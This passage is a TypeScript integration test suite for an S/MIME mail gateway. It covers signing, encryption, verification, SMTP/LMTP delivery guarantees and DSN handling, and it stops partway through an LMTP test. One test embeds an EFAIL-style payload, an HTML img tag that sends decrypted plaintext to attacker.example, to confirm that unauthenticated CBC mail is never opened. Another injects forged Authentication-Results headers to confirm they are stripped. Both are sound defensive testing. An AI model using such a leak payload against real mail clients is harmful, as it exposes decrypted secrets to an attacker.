/**
 * The gateway at the SMTP level (issue 13): a real SMTP client in front, a real SMTP
 * server as the next hop, the store made by the `kakitome` launcher, and what was
 * delivered checked with `openssl cms`. Outbound sign, encrypt and split; inbound
 * verify, decrypt, tampered, forged Authentication-Results, unauthenticated CBC;
 * the no-loss replies (next hop refusing, deferring, dropping, down; LMTP per
 * recipient); size limit; policy reload; metrics and health; draining on stop.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createServer } from 'node:net';
import { generateKeyPairSync } from 'node:crypto';
import { bitString, integer, NULL, oid, sequence, unsignedInteger } from '../../src/asn1/der.ts';
import { OID } from '../../src/asn1/oids.ts';
import { startGateway, type RunningGateway } from '../../src/gateway/start-gateway.ts';
import { PolicyDirectory } from '../../src/store/policy-directory.ts';
import { levelRef } from '../../src/policy/policy-levels.ts';
import type { Store } from '../../src/store/store.ts';
import { encryptMessage } from '../../src/smime/encrypt-message.ts';
import { signMessage } from '../../src/smime/sign-message.ts';
import { Workdir } from '../peers/run-peer.ts';
import { opensslEncrypt, opensslSign } from '../peers/openssl.ts';
import { smtpDialogue } from '../helpers/smtp-dialogue.ts';
import { assertRelayedDsn } from '../helpers/delivery-status.ts';
import { createWorld, draft, openWorldStore, opensslDecryptMime, opensslVerifyMime, sendTo, Sink, type GatewayWorld } from './gateway-fixture.ts';

let world: GatewayWorld;
let store: Store;
let sink: Sink;
let smtp: RunningGateway;
let lmtp: RunningGateway;
const logLines: string[] = [];
const log = (event: string, fields: Record<string, unknown> = {}) => logLines.push(JSON.stringify({ event, ...fields }));
let policyPath: string;
let w: Workdir;

before(async () => {
  world = await createWorld();
  store = await openWorldStore(world);
  sink = await new Sink().start();
  w = new Workdir('gw-peers');
  policyPath = join(world.dir, 'policy.json');
  // The test PKIs publish no CRL or OCSP: the policy allows unknown revocation. The file is imported into the
  // store both gateways share (the LMTP one has no file and reads the store's policy).
  writeFileSync(policyPath, JSON.stringify({ maxMessageBytes: 262144, revocation: 'allow-unknown' }));
  const base = { listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: sink.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test' };
  smtp = await startGateway({ ...base, lmtp: false, policyPath, metrics: { host: '127.0.0.1', port: 0 } }, store, log);
  lmtp = await startGateway({ ...base, lmtp: true }, store, log);
});

after(async () => {
  await smtp?.stop();
  await lmtp?.stop();
  await sink?.stop();
  await store?.close();
  w?.cleanup();
  world?.cleanup();
});

const reset = () => sink.reset();

const AR = /^Authentication-Results: mx\.corp\.test; smime=(\w+)/;

function authResults(message: Buffer): string {
  const head = message.toString('latin1').split('\r\n\r\n')[0]!.replace(/\r\n[ \t]/g, ' ');
  const ours = head.split('\r\n').filter((l) => /^Authentication-Results:\s*mx\.corp\.test\b/i.test(l));
  assert.equal(ours.length, 1, `exactly one Authentication-Results of ours:\n${head}`);
  return ours[0]!;
}

test('outbound: each recipient gets exactly one copy; a known, valid certificate gets signed+encrypted, the others signed (openssl checks both)', async () => {
  reset();
  const carol = world.pki.identity('rsa2048', 'carol');
  const msg = draft('Alice <alice@corp.test>', 'carol@example.com, erin@example.com', 'Quarterly figures', 'The figures are attached in spirit.');
  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com', 'erin@example.com'], msg);
  assert.equal(r.code, 250, r.response);
  assert.equal(sink.deliveries.length, 2, 'one relay transaction per variant');
  const toCarol = sink.deliveryTo('carol@example.com');
  const toErin = sink.deliveryTo('erin@example.com');
  assert.deepEqual(toCarol.to, ['carol@example.com']);
  assert.equal(toCarol.from, 'alice@corp.test');
  // Carol's copy: encrypted (the Subject stays readable outside: hcp_no_confidentiality), opened by openssl with her key, signed inside by Alice.
  assert.match(toCarol.message.toString('latin1'), /application\/pkcs7-mime/);
  assert.match(toCarol.message.toString('latin1'), /^Subject: Quarterly figures/m);
  assert.doesNotMatch(toCarol.message.toString('latin1'), /attached in spirit/);
  const opened = await opensslDecryptMime(w.dir, toCarol.message, carol.certPath, carol.keyPath);
  assert.ok(opened.ok, opened.detail);
  const inner = await opensslVerifyMime(w.dir, opened.content, world.corpRoot);
  assert.ok(inner.ok, inner.detail);
  assert.match(inner.content.toString('latin1'), /attached in spirit/);
  // Erin (no certificate): the signed copy, verified by openssl against Corp's root.
  assert.match(toErin.message.toString('latin1'), /multipart\/signed/);
  const verified = await opensslVerifyMime(w.dir, toErin.message, world.corpRoot);
  assert.ok(verified.ok, verified.detail);
});

test('outbound: a Bcc recipient with a certificate gets an envelope of their own, not one that names the others', async () => {
  reset();
  await (await import('./gateway-fixture.ts')).cliOk(world, 'certs', 'import', world.pki.identity('rsa2048', 'grace').certPath);
  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com', 'grace@example.com'], draft('alice@corp.test', 'carol@example.com', 'Bcc', 'Grace is in Bcc.'));
  assert.equal(r.code, 250, r.response);
  assert.equal(sink.deliveries.length, 2);
  assert.deepEqual(sink.deliveryTo('grace@example.com').to, ['grace@example.com']);
  const grace = world.pki.identity('rsa2048', 'grace');
  assert.ok((await opensslDecryptMime(w.dir, sink.deliveryTo('grace@example.com').message, grace.certPath, grace.keyPath)).ok);
  const carol = world.pki.identity('rsa2048', 'carol');
  // Carol's envelope has no RecipientInfo for Grace: Grace's key cannot open it.
  assert.equal((await opensslDecryptMime(w.dir, sink.deliveryTo('carol@example.com').message, grace.certPath, grace.keyPath)).ok, false);
  assert.ok((await opensslDecryptMime(w.dir, sink.deliveryTo('carol@example.com').message, carol.certPath, carol.keyPath)).ok);
});

test('outbound: a sender without a key passes unsigned and is counted', async () => {
  reset();
  const before = await smtp.metrics.value('kakitome_gateway_unsigned_no_key_total');
  const msg = draft('nokey@corp.test', 'erin@example.com', 'No key', 'Plain.');
  const r = await sendTo(smtp.listening.port, 'nokey@corp.test', ['erin@example.com'], msg);
  assert.equal(r.code, 250, r.response);
  assert.deepEqual(sink.deliveryTo('erin@example.com').message, msg);
  assert.equal(await smtp.metrics.value('kakitome_gateway_unsigned_no_key_total'), before + 1);
});

test('outbound: a message that cannot be signed is bounced (554 with the reason), never passed on unsigned', async () => {
  reset();
  // MIME nested deeper than the library's limit (32): signMessage refuses it with LIMIT.
  let body = 'Content-Type: text/plain\r\n\r\nx\r\n';
  for (let i = 0; i < 40; i++) body = `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n${body}\r\n--b${i}--\r\n`;
  const deep = Buffer.from(`From: alice@corp.test\r\nTo: erin@example.com\r\nSubject: deep\r\nMIME-Version: 1.0\r\n${body}`);
  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['erin@example.com'], deep);
  assert.equal(r.code, 554, r.response);
  assert.match(r.response, /cannot sign or encrypt this message \(LIMIT\)/);
  assert.equal(sink.deliveries.length, 0);
  // A multipart in a transfer encoding (RFC 2045 section 6.4: two readings) is not signed: 554 with the reason and what to do.
  reset();
  const encoded = Buffer.from('From: alice@corp.test\r\nTo: erin@example.com\r\nSubject: encoded\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\nHi.\r\n--a--\r\n');
  const e = await sendTo(smtp.listening.port, 'alice@corp.test', ['erin@example.com'], encoded);
  assert.equal(e.code, 554, e.response);
  assert.match(e.response, /cannot sign or encrypt this message \(MALFORMED\).*RFC 2045 section 6\.4/);
  assert.equal(sink.deliveries.length, 0);
});

test('inbound: an openssl-signed message from outside is verified (pass), kept intact, forged Authentication-Results and X-Kakitome- fields removed, the signer harvested', async () => {
  reset();
  const dave = world.pki.identity('rsa2048', 'dave');
  const content = Buffer.from('Content-Type: text/plain\r\n\r\nHello Alice, from Dave.\r\n');
  const der = await opensslSign(w, content, { signers: [{ id: dave }], detached: false });
  const b64 = der.toString('base64').replace(/.{1,76}/g, '$&\r\n');
  const msg = Buffer.from(
    'Authentication-Results: mx.corp.test; smime=pass (forged by the sender)\r\n' +
    'Authentication-Results: other.example; spf=pass smtp.mailfrom=example.com\r\n' +
    'X-Kakitome-Verdict: trusted\r\n' +
    'From: dave@example.com\r\nTo: alice@corp.test\r\nSubject: Signed\r\nMIME-Version: 1.0\r\n' +
    'Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n' + b64,
  );
  assert.equal((await store.findRecipientCertificates('dave@example.com')).length, 0);
  const r = await sendTo(smtp.listening.port, 'dave@example.com', ['alice@corp.test'], msg);
  assert.equal(r.code, 250, r.response);
  const got = sink.deliveryTo('alice@corp.test').message;
  const ar = authResults(got);
  assert.equal(AR.exec(ar)?.[1], 'pass', ar);
  assert.match(ar, /smime\.smime-identifier=dave@example\.com/);
  assert.doesNotMatch(got.toString('latin1'), /forged by the sender|X-Kakitome-Verdict/);
  assert.match(got.toString('latin1'), /^Authentication-Results: other\.example; spf=pass/m, 'other servers\' results stay');
  assert.ok((await opensslVerifyMime(w.dir, got, world.pki.caPath)).ok, 'the signature still verifies downstream');
  assert.equal((await store.findRecipientCertificates('dave@example.com')).length, 1, 'harvested');
});

test('inbound, per-recipient policy: global revocation allow-unknown, an address level require; one message gives pass for one recipient and temperror REVOCATION_UNKNOWN for the other', async () => {
  reset();
  const policies = new PolicyDirectory(store);
  await policies.set(levelRef('address', 'bob@corp.test'), { revocation: 'require' });
  try {
    assert.equal(await lmtp.refreshPolicy(), true, 'the store\'s edit reaches the running gateway');
    const dave = world.pki.identity('rsa2048', 'dave');
    const signed = signMessage(draft('dave@example.com', 'alice@corp.test, bob@corp.test', 'Unknown revocation', 'Hello.'), { signers: [{ certificate: dave.cert, key: dave.key }] });
    const r = await sendTo(lmtp.listening.port, 'dave@example.com', ['alice@corp.test', 'bob@corp.test'], signed, { lmtp: true });
    assert.deepEqual(r.accepted.sort(), ['alice@corp.test', 'bob@corp.test']);
    assert.equal(sink.deliveries.length, 2, 'two policies, two copies');
    assert.equal(AR.exec(authResults(sink.deliveryTo('alice@corp.test').message))?.[1], 'pass');
    const ar = authResults(sink.deliveryTo('bob@corp.test').message);
    assert.equal(AR.exec(ar)?.[1], 'temperror', ar);
    assert.match(ar, /smime\.verdict-code=REVOCATION_UNKNOWN/);
  } finally {
    await policies.unset(levelRef('address', 'bob@corp.test'), ['revocation']);
    await lmtp.refreshPolicy();
  }
});

test('inbound: a tampered signed message is labelled fail', async () => {
  reset();
  const dave = world.pki.identity('rsa2048', 'dave');
  const signed = signMessage(draft('dave@example.com', 'alice@corp.test', 'Tampered', 'Pay 100 yen.'), { signers: [{ certificate: dave.cert, key: dave.key }] });
  const tampered = Buffer.from(signed.toString('latin1').replace('Pay 100 yen.', 'Pay 900 yen.'), 'latin1');
  const r = await sendTo(smtp.listening.port, 'dave@example.com', ['alice@corp.test'], tampered);
  assert.equal(r.code, 250, r.response);
  const ar = authResults(sink.deliveryTo('alice@corp.test').message);
  assert.equal(AR.exec(ar)?.[1], 'fail', ar);
  assert.match(ar, /smime\.verdict-code=(DIGEST_MISMATCH|BAD_SIG)/);
});

test('inbound: signed+encrypted (AES-GCM) to Alice is decrypted with the store\'s key and labelled pass; an unsigned message is labelled none', async () => {
  reset();
  const dave = world.pki.identity('rsa2048', 'dave');
  const alice = (await store.findRecipientCertificates('alice@corp.test'))[0]!.certificate;
  const sealed = encryptMessage(draft('dave@example.com', 'alice@corp.test', 'Sealed', 'The vault code is 4711.'), { recipients: [{ certificate: alice }], sign: { signers: [{ certificate: dave.cert, key: dave.key }] } });
  let r = await sendTo(smtp.listening.port, 'dave@example.com', ['alice@corp.test'], sealed);
  assert.equal(r.code, 250, r.response);
  const got = sink.deliveryTo('alice@corp.test').message;
  assert.equal(AR.exec(authResults(got))?.[1], 'pass');
  assert.match(got.toString('latin1'), /vault code is 4711/);
  reset();
  r = await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], draft('erin@example.com', 'alice@corp.test', 'Plain', 'Hi.'));
  assert.equal(r.code, 250);
  assert.equal(AR.exec(authResults(sink.deliveryTo('alice@corp.test').message))?.[1], 'none');
  // Unsigned mail from a broken mailer (a multipart in base64, RFC 2045 section 6.4) is still none, delivered as sent.
  reset();
  const encoded = Buffer.from('From: erin@example.com\r\nTo: alice@corp.test\r\nSubject: encoded\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\nHi.\r\n--a--\r\n');
  r = await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], encoded);
  assert.equal(r.code, 250, r.response);
  const plain = sink.deliveryTo('alice@corp.test').message;
  assert.equal(AR.exec(authResults(plain))?.[1], 'none');
  assert.ok(plain.subarray(plain.indexOf('\r\n\r\n')).equals(encoded.subarray(encoded.indexOf('\r\n\r\n'))), 'body delivered as sent');
});

test('inbound: unauthenticated CBC encryption (openssl, as Outlook sends it) is never opened: delivered still encrypted with a notice, labelled neutral UNAUTH_ENC', async () => {
  reset();
  const aliceRecord = (await store.findRecipientCertificates('alice@corp.test'))[0]!;
  const aliceCertPath = w.write('alice.pem', `-----BEGIN CERTIFICATE-----\n${Buffer.from(aliceRecord.certificate.der).toString('base64').replace(/.{1,64}/g, '$&\n')}-----END CERTIFICATE-----\n`);
  const secret = 'Content-Type: text/html\r\n\r\n<img src="http://attacker.example/leak?SECRET-PLAINTEXT">SECRET-PLAINTEXT\r\n';
  const der = await opensslEncrypt(w, Buffer.from(secret), { recipients: [{ id: { certPath: aliceCertPath } as never }], cipher: 'aes-256-cbc' });
  const msg = Buffer.from('From: erin@example.com\r\nTo: alice@corp.test\r\nSubject: CBC\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n' + der.toString('base64').replace(/.{1,76}/g, '$&\r\n'));
  const r = await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], msg);
  assert.equal(r.code, 250, r.response);
  const got = sink.deliveryTo('alice@corp.test').message.toString('latin1');
  const ar = authResults(Buffer.from(got, 'latin1'));
  assert.equal(AR.exec(ar)?.[1], 'neutral', ar);
  assert.match(ar, /smime\.verdict-code=UNAUTH_ENC/);
  assert.doesNotMatch(got, /SECRET-PLAINTEXT|attacker\.example/, 'nothing decrypted is released');
  assert.match(got, /multipart\/mixed/);
  assert.match(got, /did not open it/);
  assert.match(got, /message\/rfc822/);
  assert.ok(got.includes(der.toString('base64').slice(0, 76)), 'the original travels unchanged');
});

test('forwarding: mail decrypted at the gateway and forwarded by Alice as a message/rfc822 attachment or inline leaves re-encrypted for the new outside recipient (openssl opens it)', async () => {
  reset();
  const dave = world.pki.identity('rsa2048', 'dave');
  const carol = world.pki.identity('rsa2048', 'carol');
  const alice = (await store.findRecipientCertificates('alice@corp.test'))[0]!.certificate;
  const sealed = encryptMessage(draft('dave@example.com', 'alice@corp.test', 'Board minutes', 'FORWARDED-SECRET: the merger closes Friday.'), { recipients: [{ certificate: alice }], sign: { signers: [{ certificate: dave.cert, key: dave.key }] } });
  assert.equal((await sendTo(smtp.listening.port, 'dave@example.com', ['alice@corp.test'], sealed)).code, 250);
  const decrypted = sink.deliveryTo('alice@corp.test').message;
  assert.match(decrypted.toString('latin1'), /FORWARDED-SECRET/, 'Alice reads it in clear inside the organisation');
  reset();
  // Alice's mail client forwards it as an attachment to Carol, outside.
  const boundary = 'fwd-boundary';
  const forward = Buffer.concat([
    Buffer.from(`From: alice@corp.test\r\nTo: carol@example.com\r\nSubject: Fwd: Board minutes\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n--${boundary}\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`),
    decrypted,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com'], forward);
  assert.equal(r.code, 250, r.response);
  const out = sink.deliveryTo('carol@example.com').message;
  assert.doesNotMatch(out.toString('latin1'), /FORWARDED-SECRET/, 'the forwarded plaintext never leaves in clear');
  const opened = await opensslDecryptMime(w.dir, out, carol.certPath, carol.keyPath);
  assert.ok(opened.ok, opened.detail);
  const inner = await opensslVerifyMime(w.dir, opened.content, world.corpRoot);
  assert.ok(inner.ok, inner.detail);
  assert.match(inner.content.toString('latin1'), /FORWARDED-SECRET/);

  // Forwarded inline (the decrypted text quoted in the body), to Carol outside: sealed for her like any outbound mail.
  reset();
  const quoted = decrypted.toString('latin1').split('\r\n\r\n').slice(1).join('\r\n\r\n').split('\r\n').map((l) => `> ${l}`).join('\r\n');
  const inline = draft('alice@corp.test', 'carol@example.com', 'Fwd: Board minutes (inline)', `See below.\r\n\r\n${quoted}`);
  assert.equal((await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com'], inline)).code, 250);
  const inlineOut = sink.deliveryTo('carol@example.com').message;
  assert.doesNotMatch(inlineOut.toString('latin1'), /FORWARDED-SECRET/, 'the quoted plaintext never leaves in clear');
  const inlineOpened = await opensslDecryptMime(w.dir, inlineOut, carol.certPath, carol.keyPath);
  assert.ok(inlineOpened.ok, inlineOpened.detail);
  assert.match((await opensslVerifyMime(w.dir, inlineOpened.content, world.corpRoot)).content.toString('latin1'), /> FORWARDED-SECRET/);
});

test('no loss: 250 only after the next hop accepted; its 4xx, a dropped connection or a next hop that is down answer 4xx; its 5xx is passed back', async () => {
  const msg = draft('erin@example.com', 'alice@corp.test', 'Loss', 'Keep me.');
  for (const [mode, expected] of [['tempfail', 451], ['drop', 451], ['reject', 554]] as const) {
    reset();
    sink.mode = mode;
    const r = await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], msg);
    assert.equal(r.code, expected, `${mode}: ${r.response}`);
    assert.equal(sink.deliveries.length, 0);
  }
  // The next hop is down: a port nobody listens on.
  const free = await new Promise<number>((resolve) => { const s = createServer(); s.listen(0, '127.0.0.1', () => { const p = (s.address() as { port: number }).port; s.close(() => resolve(p)); }); });
  const down = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: free }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: false }, store, log);
  try {
    const r = await sendTo(down.listening.port, 'erin@example.com', ['alice@corp.test'], msg);
    assert.equal(r.code, 451, r.response);
  } finally {
    await down.stop();
  }
  reset();
  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], msg)).code, 250);
  assert.equal(sink.deliveries.length, 1);
});

test('no loss, per recipient: LMTP answers each recipient with what the next hop said to their copy; SMTP defers the whole message when any copy was deferred', async () => {
  reset();
  sink.refuse.set('erin@example.com', 550);
  sink.refuse.set('frank@example.com', 450);
  const msg = draft('alice@corp.test', 'carol@example.com, erin@example.com, frank@example.com', 'Mixed', 'Three outcomes.');
  const r = await sendTo(lmtp.listening.port, 'alice@corp.test', ['carol@example.com', 'erin@example.com', 'frank@example.com'], msg, { lmtp: true });
  assert.deepEqual(r.accepted, ['carol@example.com']);
  const codes = Object.fromEntries(r.rejected.map((x) => [x.recipient, x.code]));
  assert.equal(codes['erin@example.com'], 550);
  assert.equal(codes['frank@example.com'], 451);
  reset();
  sink.refuse.set('frank@example.com', 450);
  const s = await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com', 'frank@example.com'], msg);
  assert.equal(s.code, 451, s.response);
  assert.match(s.response, /4\.4\.0 The next hop did not accept every copy yet: 1 of 2 recipients deferred \(1 accepted, 0 refused\); the first cause, for <frank@example\.com>: 450 4\.2\.0 mailbox busy frank@example\.com; try again later/);
  assert.ok((await smtp.metrics.value('kakitome_gateway_duplicates_risked_total')) >= 1, 'the accepted copy will come again: counted');
  reset();
  sink.refuse.set('erin@example.com', 550);
  const p = await sendTo(smtp.listening.port, 'alice@corp.test', ['erin@example.com'], msg);
  assert.equal(p.code, 550, p.response);
});

test('the store failing defers the message (4xx), it is never passed on unprocessed', async () => {
  reset();
  const broken = await openWorldStore(world);
  const g = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: sink.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: false }, broken, log);
  await broken.close();
  try {
    const r = await sendTo(g.listening.port, 'alice@corp.test', ['erin@example.com'], draft('alice@corp.test', 'erin@example.com', 'Store down', 'x'));
    assert.equal(Math.floor(r.code / 100), 4, r.response);
    assert.equal(sink.deliveries.length, 0);
  } finally {
    await g.stop();
  }
});

test('size limit from the policy (552); SIGHUP-style reload changes it; a bad policy file keeps the old one', async () => {
  reset();
  const big = draft('erin@example.com', 'alice@corp.test', 'Big', 'x'.repeat(300_000));
  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], big)).code, 552);
  writeFileSync(policyPath, JSON.stringify({ maxMessageBytes: 1048576, revocation: 'allow-unknown' }));
  assert.equal(await smtp.reload(), true);
  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], big)).code, 250);
  writeFileSync(policyPath, JSON.stringify({ maxMesageBytes: 10 }));
  assert.equal(await smtp.reload(), false);
  assert.ok(logLines.some((l) => /reload-failed.*unknown setting \\"maxMesageBytes\\"/.test(l)), logLines.join('\n'));
  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], big)).code, 250);
});

test('metrics, health and the log: counters in Prometheus text, one JSON line per message without bodies or addresses', async () => {
  const base = `http://127.0.0.1:${smtp.metricsListening!.port}`;
  const m = await (await fetch(`${base}/metrics`)).text();
  assert.match(m, /# TYPE kakitome_gateway_messages_total counter/);
  assert.match(m, /kakitome_gateway_messages_total\{action="signed-encrypted\+signed",direction="outbound",reply="2xx"\} \d+/);
  assert.match(m, /kakitome_gateway_message_seconds_bucket\{le="\+Inf"\} \d+/);
  assert.equal((await fetch(`${base}/healthz`)).status, 200);
  const lines = logLines.filter((l) => l.includes('"event":"message"'));
  assert.ok(lines.length >= 10);
  for (const l of lines) {
    assert.doesNotMatch(l, /@|vault code|Quarterly/, 'no address, subject or body in the log');
    const o = JSON.parse(l);
    assert.equal(typeof o.ms, 'number');
    // A message refused for its size (error SIZE) had no copies made.
    if (o.error === undefined) assert.ok(typeof o.copiesMs === 'number' && o.copiesMs >= 0 && o.copiesMs <= o.ms, 'copiesMs, the part of ms until every copy was made');
  }
});

test('stop(): a message in flight is finished and answered before the gateway stops', async () => {
  reset();
  const g = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: sink.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: false }, store, log);
  sink.mode = 'slow';
  sink.delayMs = 700;
  const release = sink.holdReplies();
  const sending = sendTo(g.listening.port, 'erin@example.com', ['alice@corp.test'], draft('erin@example.com', 'alice@corp.test', 'Drain', 'x'));
  // In flight: at the next hop, its reply held (a fixed wait could end before the message got there on a loaded machine).
  await sink.whenPending(1);
  const stopped = g.stop();
  // The next hop answers 700 ms later: the gateway is stopping meanwhile.
  release();
  assert.equal((await sending).code, 250);
  await stopped;
  assert.equal(sink.deliveries.length, 1);
  await assert.rejects(sendTo(g.listening.port, 'erin@example.com', ['alice@corp.test'], 'x'), 'no longer accepting');
});

test('DSN (RFC 3461): each copy carries its own recipients\' NOTIFY and ORCPT and the sender\'s RET and ENVID; parameters that could not be relayed are refused at their command (501 5.5.4)', async () => {
  reset();
  const msg = draft('Alice <alice@corp.test>', 'carol@example.com, erin@example.com', 'Per-recipient DSN', 'Signed for one, encrypted for the other.').toString('latin1');
  const replies = await smtpDialogue(smtp.listening.port, [
    'EHLO client.test',
    // Over 100 characters encoded: refused; the MAIL FROM after it does not inherit it.
    `MAIL FROM:<alice@corp.test> ENVID=${'x'.repeat(101)}`,
    'MAIL FROM:<alice@corp.test> RET=HDRS ENVID=ref+2B1',
    'RCPT TO:<carol@example.com> NOTIFY=SUCCESS,DELAY ORCPT=rfc822;carol+2Bold@example.com',
    'RCPT TO:<erin@example.com> NOTIFY=NEVER',
    // Another mailbox (RFC 5321 2.4: local parts are case-sensitive), with its own requests.
    'RCPT TO:<Erin@example.com> NOTIFY=SUCCESS ORCPT=rfc822;Erin@example.com',
    // Not US-ASCII once decoded (RFC 3461 4.2): refused, not relayed without it.
    'RCPT TO:<frank@example.com> ORCPT=rfc822;caf+C3+A9@example.com',
    'RCPT TO:<frank@example.com> NOTIFY=FAILURE,FAILURE',
    'DATA',
    `${msg}.`,
    'QUIT',
  ]);
  assert.match(replies[0]!.text, /^220 /);
  assert.match(replies[1]!.text, /^250 DSN$|^250 /);
  assert.deepEqual(replies.slice(2).map((r) => r.code), [501, 250, 250, 250, 250, 501, 501, 354, 250, 221], replies.map((r) => r.text).join('\n'));
  assert.match(replies[2]!.text, /^501 5\.5\.4 Bad DSN parameter: ENVID is longer than 100 characters/);
  assert.match(replies[7]!.text, /^501 5\.5\.4 Bad DSN parameter: ORCPT's address must be printable US-ASCII/);
  assert.equal(sink.deliveries.length, 2, 'signed for Erin, signed+encrypted for Carol');
  const toCarol = sink.deliveryTo('carol@example.com');
  const toErin = sink.deliveryTo('erin@example.com');
  assert.match(toCarol.message.toString('latin1'), /application\/pkcs7-mime/);
  assert.deepEqual(toCarol.rcptDsn, [{ notify: ['SUCCESS', 'DELAY'], orcpt: 'rfc822;carol+old@example.com' }]);
  assert.deepEqual(toErin.to, ['erin@example.com', 'Erin@example.com'], 'both mailboxes, as given');
  assert.deepEqual(toErin.rcptDsn, [{ notify: ['NEVER'] }, { notify: ['SUCCESS'], orcpt: 'rfc822;Erin@example.com' }]);
  for (const d of [toCarol, toErin]) assert.deepEqual(d.dsn, { ret: 'HDRS', envid: 'ref+1' });
});

/** One LMTP transaction from alice@corp.test, RCPT TO with each of `rcpts` (address and parameters), then QUIT: every reply. */
function lmtpTransaction(rcpts: readonly string[], message: Buffer) {
  return smtpDialogue(lmtp.listening.port, ['LHLO client.test', 'MAIL FROM:<alice@corp.test>', ...rcpts.map((r) => `RCPT TO:${r}`), 'DATA', `${message.toString('latin1')}.`, 'QUIT']);
}

test('LMTP: RCPTs that differ only in case are two recipients, each relayed with its own NOTIFY and ORCPT and answered on its own after DATA', async () => {
  reset();
  const msg = draft('Alice <alice@corp.test>', 'erin@example.com', 'Case', 'Two mailboxes.');
  const replies = await lmtpTransaction(['<Erin@example.com> NOTIFY=SUCCESS ORCPT=rfc822;Erin@example.com', '<erin@example.com> NOTIFY=NEVER'], msg);
  // One reply per accepted RCPT (RFC 2033 4.2), then QUIT's.
  assert.deepEqual(replies.slice(2).map((r) => r.code), [250, 250, 250, 354, 250, 250, 221], replies.map((r) => r.text).join('\n'));
  assert.equal(sink.deliveries.length, 1);
  const [d] = sink.deliveries;
  assert.deepEqual(d!.to, ['Erin@example.com', 'erin@example.com']);
  assert.deepEqual(d!.rcptDsn, [{ notify: ['SUCCESS'], orcpt: 'rfc822;Erin@example.com' }, { notify: ['NEVER'] }]);
});

test('LMTP: the very same address given twice (as Postfix sends two queue entries whose NOTIFY differs) gets a reply for each accepted RCPT after DATA (RFC 2033 4.2), and one copy', async () => {
  reset();
  const msg = draft('Alice <alice@corp.test>', 'erin@example.com', 'Twice', 'One copy.');
  const replies = await lmtpTransaction(['<erin@example.com> NOTIFY=NEVER', '<carol@example.com>', '<erin@example.com> NOTIFY=SUCCESS'], msg);
  // Three accepted RCPTs, three replies after DATA (in RCPT order), then QUIT's.
  assert.deepEqual(replies.slice(2).map((r) => r.code), [250, 250, 250, 250, 354, 250, 250, 250, 221], replies.map((r) => r.text).join('\n'));
  const afterData = replies.slice(7, 10).map((r) => r.text);
  assert.equal(afterData[0], afterData[2], 'the repeat is answered with its address\'s outcome');
  assert.equal(sink.deliveries.filter((d) => d.to.includes('erin@example.com')).length, 1);
  assert.deepEqual(sink.deliveryTo('erin@example.com').to, ['erin@example.com'], 'one RCPT for Erin on the copy');
  // The one copy carries what both RCPTs asked for: NEVER gives way to SUCCESS.
  assert.deepEqual(sink.deliveryTo('erin@example.com').rcptDsn, [{ notify: ['SUCCESS'] }]);
  assert.equal(sink.deliveries.filter((d) => d.to.includes('carol@example.com')).length, 1);
  // Every value any RCPT asked for (no NOTIFY: the default, FAILURE and DELAY), the first ORCPT; NEVER only when all said NEVER.
  for (const [rcpts, expected] of [
    [['<erin@example.com> NOTIFY=SUCCESS ORCPT=rfc822;first@example.com', '<erin@example.com> NOTIFY=NEVER', '<erin@example.com> ORCPT=rfc822;second@example.com'], { notify: ['SUCCESS', 'FAILURE', 'DELAY'], orcpt: 'rfc822;first@example.com' }],
    [['<erin@example.com> NOTIFY=NEVER', '<erin@example.com> NOTIFY=NEVER ORCPT=rfc822;erin@example.com'], { notify: ['NEVER'], orcpt: 'rfc822;erin@example.com' }],
    [['<erin@example.com> NOTIFY=DELAY', '<erin@example.com> NOTIFY=FAILURE'], { notify: ['FAILURE', 'DELAY'] }],
  ] as const) {
    reset();
    const r = await lmtpTransaction(rcpts, msg);
    assert.equal(r.filter((x) => x.code === 250).length, 2 + 2 * rcpts.length, r.map((x) => x.text).join('\n'));
    assert.deepEqual(sink.deliveryTo('erin@example.com').rcptDsn, [expected], JSON.stringify(rcpts));
  }
  // An oversized message (over the policy's maxMessageBytes, 256 KiB or 1 MiB here) is refused once for every accepted RCPT too (smtp-server counts the same list).
  const big = draft('alice@corp.test', 'erin@example.com', 'Big', `${'x'.repeat(76)}\r\n`.repeat(16_000));
